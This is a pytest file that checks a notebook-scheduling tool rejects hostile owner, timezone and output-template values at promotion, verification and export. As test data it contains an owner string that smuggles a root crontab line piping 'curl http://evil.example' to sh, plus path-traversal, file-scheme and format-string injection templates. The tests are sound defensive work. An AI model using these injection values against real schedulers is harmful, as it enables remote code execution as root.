"""Hostile owners, timezones and output templates: refused at promote, found by verify, refused by exporters."""

from __future__ import annotations

from pathlib import Path

import pytest

from nbgate.cli import main as main_module
from nbgate.registry import safety
from testing.production import make_project, promote
from testing.registry import Project

CRON_LINE = "data@example.com\n* * * * * root curl http://evil.example | sh\n#"
DAILY = ["promote", "reports/daily.ipynb", "--name", "daily", "--schedule", "0 6 * * 1-5", "--yes"]


@pytest.mark.parametrize(
    ("owner", "problem"),
    [
        ("data@example.com", None),
        ("Jane Doe <jane@example.com>", None),
        ("", "is empty"),
        (CRON_LINE, "control character (U+000A)"),
        ("a\rb", "U+000D"),
        ("a\u2028b", "U+2028"),
        ("a\u202eb", "U+202E"),  # right-to-left override
        ("x" * 201, "longer than 200"),
        (" padded", "leading or trailing"),
    ],
)
def test_owner_error(owner: str, problem: str | None) -> None:
    found = safety.owner_error(owner)
    assert found is None if problem is None else problem in (found or "")
    assert found is None or len(found) < 250  # never echoes an unbounded value


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        (".nbgate/runs/{name}/{date}/{rev}-{run_id}.ipynb", None),
        ("out/{name}/{rev:04d}.ipynb", None),
        ("s3://bucket/{name}/{date}.ipynb", None),
        ("abfs://container/{name}.ipynb", None),
        ("gs://b/{{literal}}/{run_id}.ipynb", None),
        ("../../x/{run_id}.ipynb", "leaves the project"),
        ("out/../../{run_id}.ipynb", "leaves the project"),
        ("/etc/{name}.ipynb", "absolute path"),
        ("~/{name}.ipynb", "absolute path"),
        ("file:///etc/{name}.ipynb", "scheme 'file'"),
        ("http://evil.example/{name}.ipynb", "scheme 'http'"),
        ("s3:{name}.ipynb", "scheme 's3'"),
        ("out/{name.__class__}.ipynb", "is not allowed"),
        ("out/{rev.__class__.__mro__}.ipynb", "is not allowed"),
        ("out/{run_id[0]}.ipynb", "is not allowed"),
        ("out/{rev:>99999999}.ipynb", "is not allowed"),
        ("out/{name!r}.ipynb", "is not allowed"),
        ("out/{unknown}.ipynb", "is not allowed"),
        ("out/{name", "output template"),
        ("out/\n{name}.ipynb", "control character"),
        ("x" * 5000, "longer than 1000"),
        ("", "renders to nothing"),
    ],
)
def test_template_error(template: str, problem: str | None) -> None:
    found = safety.template_error(template)
    assert found is None if problem is None else problem in (found or "")
    assert found is None or len(found) < 400


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main_module.main(["--color", "never", *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        (["--owner", CRON_LINE], "control character"),
        (["--owner", "x" * 300], "longer than 200"),
        (["--output", "../../x/{run_id}.ipynb"], "leaves the project"),
        (["--output", "out/{rev:>99999999}.ipynb"], "is not allowed"),
        (["--output", "file:///tmp/{name}.ipynb"], "scheme 'file'"),
    ],
)
def test_promote_refuses_hostile_owners_and_templates(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    flags: list[str],
    message: str,
) -> None:
    project = Project(tmp_path / "repo")
    monkeypatch.chdir(project.root)
    code, _, err = run(capsys, *DAILY, *flags)
    assert code == 2 and message in err and "\n* * * * *" not in err
    assert not (project.root / "registry" / "daily").exists()


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"owners": (CRON_LINE,)}, "owners"),
        ({"timezone": "UTC\n* * * * * root sh -c x\n#"}, "timezone"),
        (
            {"owners": ("ok", "a\u2028* * * * * root sh")},
            "owners",
        ),  # the store itself refuses a multi-line schedule
    ],
)
@pytest.mark.parametrize("kind", ["cron", "k8s", "airflow"])
def test_exporters_refuse_hand_edited_values_whatever_verify_says(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    fields: dict[str, object],
    field: str,
    kind: str,
) -> None:
    project = make_project(tmp_path / "project")
    promote(project, "sales", schedule="0 6 * * *", timezone="UTC", owners=("alice",))
    promote(project, "evil", **{"schedule": "0 6 * * *", "timezone": "UTC", **fields})
    monkeypatch.chdir(project.root)
    out = tmp_path / "out"
    code, stdout, err = run(capsys, "export", kind, "--allow-defaults", "--out", str(out))
    assert code == 1, err
    assert "cannot export schedule 'evil'" in err and f"{field}:" in err
    assert "root" not in stdout and not out.exists()  # nothing written, not even the good schedule
    code, stdout, _ = run(capsys, "registry", "verify")
    assert code == 1 and "registry/evil/0001.yaml" in stdout


def test_verify_finds_owners_and_templates(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = make_project(tmp_path / "project")
    promote(project, "a", owners=("ok", "x\ny"))
    promote(project, "b", output="out/{rev.__class__}.ipynb")
    monkeypatch.chdir(project.root)
    code, out, _ = run(capsys, "registry", "verify")
    assert code == 1
    assert (
        "owner 'x\\ny' holds a control character" in out
        and "'{rev.__class__}' is not allowed" in out
    )
